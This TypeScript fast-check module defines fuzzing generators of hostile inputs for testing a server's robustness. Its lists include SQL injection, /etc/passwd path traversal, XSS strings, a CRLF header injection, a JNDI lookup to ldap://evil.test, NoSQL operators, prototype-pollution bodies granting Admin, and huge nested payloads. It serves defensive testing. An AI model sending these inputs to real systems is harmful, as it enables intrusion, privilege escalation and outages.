import fc from 'fast-check';

/** Texts that have broken servers before. */
const texts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udfffb',
  '\u202e\u200b\ufeff',
  '\r\nBcc: eve@evil.test',
  'x'.repeat(100_000),
  '../../../etc/passwd',
  "'; drop table users; --",
  '%_\\',
  '<script>alert(1)</script>',
  '{{userName}}',
  'javascript:alert(1)',
  'file:///etc/passwd',
  '//evil.test',
  'NaN',
  'Infinity',
  '-1.00',
  '0',
  '0.00',
  '1e9',
  '19.999',
  '999999999999.99',
  '9007199254740993',
  '__proto__',
  'constructor',
  'toString',
  '00000000-0000-0000-0000-000000000000',
  'AAAAAAAA',
  '2026-02-30',
  '2026-01-01T00:00:00Z',
];

const numbers = [-1, -0.5, 0, 0.1, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e308, -1e308];

export const badText = fc.oneof(
  fc.constantFrom(...texts),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ maxLength: 40 }),
);

/** A value that a field was not made for, as JSON can carry it. */
export const badValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: badText },
  { weight: 2, arbitrary: fc.constantFrom<number>(...numbers) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], [{}]) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>({ $ne: null }, { toString: 1 }, { length: -1 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...texts), { maxLength: 30 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Headers that we read, with what no one should send; a header carries bytes only, and no line break. */
export const badHeader = fc
  .tuple(
    fc.constantFrom(
      ...['idempotency-key', 'last-event-id', 'prefer', 'if-none-match', 'if-range', 'range', 'origin'],
      ...['x-request-id', 'accept', 'referer', 'user-agent', 'x-forwarded-for', 'x-forwarded-host', 'host'],
    ),
    fc.oneof(
      fc.constantFrom('', ' ', '*', '"', ',,,', 'W/', '-1', '1e99', 'wait=1e9', 'bytes=0-0,1-1', '__proto__'),
      fc.constantFrom('null', "'; drop table users; --", '{jndi:ldap://evil.test/a}', 'x'.repeat(4_000)),
      fc.string({ maxLength: 40 }).map((text) => text.replace(/[^\x20-\x7e]/g, '?')),
    ),
  )
  .map(([name, value]) => ({ [name]: value }));

/** Bodies that are no JSON object at all, or that try to reach an object's prototype. */
export const badBody = fc.constantFrom(
  '',
  '{',
  'null',
  '[]',
  '"text"',
  '1',
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":1e999}',
  '{"__proto__":{"role":"Admin"}}',
  '{"constructor":{"prototype":{"role":"Admin"}}}',
  '['.repeat(20_000),
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  '\u0000',
  '{"a":"\\ud800"}',
);
